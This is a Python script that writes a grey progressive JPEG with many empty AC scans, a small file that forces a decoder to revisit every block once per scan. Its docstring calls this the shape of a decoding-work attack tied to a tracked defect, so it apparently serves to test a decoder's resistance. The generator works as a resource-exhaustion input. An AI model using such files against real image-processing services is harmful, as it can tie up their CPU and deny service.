#!/usr/bin/env python3
"""A grey progressive JPEG with N scans and almost no data: the shape of a decoding-work attack
(issue 11, defect 12). After one DC scan, every scan repeats the full AC band and codes all
of its blocks as end-of-band runs, so the file stays small whatever N is while a decoder
passes over every block once per scan. Written by hand, marker by marker: no modules needed.

usage: jpeg_scans.py OUT --scans N [--size WxH]"""
import argparse
import struct


def segment(marker, payload):
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


class Bits:
    """Entropy-coded bits, most significant first, 0xFF stuffed, padded with ones."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value, nbits):
        for i in range(nbits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)
                self.acc = self.n = 0

    def flush(self):
        while self.n:
            self.put(1, 1)
        return bytes(self.out)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--scans", type=int, required=True)
    ap.add_argument("--size", default="1024x1024")
    a = ap.parse_args()
    w, h = (int(v) for v in a.size.split("x"))
    blocks = ((w + 7) // 8) * ((h + 7) // 8)

    f = bytearray(b"\xff\xd8")
    f += segment(0xDB, bytes([0]) + bytes([1] * 64))
    f += segment(0xC2, struct.pack(">BHHB", 8, h, w, 1) + bytes([1, 0x11, 0]))
    # DC table 0: category 0 (no difference) is code '0'. AC table 0: the 15 end-of-band
    # run symbols EOB0..EOB14 (r << 4, a run of 2^r + r extra bits), 4-bit codes 0..14.
    f += segment(0xC4, bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0x00]))
    f += segment(0xC4, bytes([0x10]) + bytes([0, 0, 0, 15] + [0] * 12) +
                 bytes(r << 4 for r in range(15)))

    f += segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0x00]))  # DC first scan, Ss = Se = 0
    dc = Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    f += dc.flush()

    ac = Bits()
    left = blocks
    while left:
        run = min(left, 32767)
        r = run.bit_length() - 1
        ac.put(r, 4)
        ac.put(run - (1 << r), r)
        left -= run
    band = ac.flush()
    for _ in range(a.scans - 1):  # AC first scans, Ss = 1, Se = 63
        f += segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0x00])) + band
    f += b"\xff\xd9"
    with open(a.out, "wb") as fh:
        fh.write(f)


main()
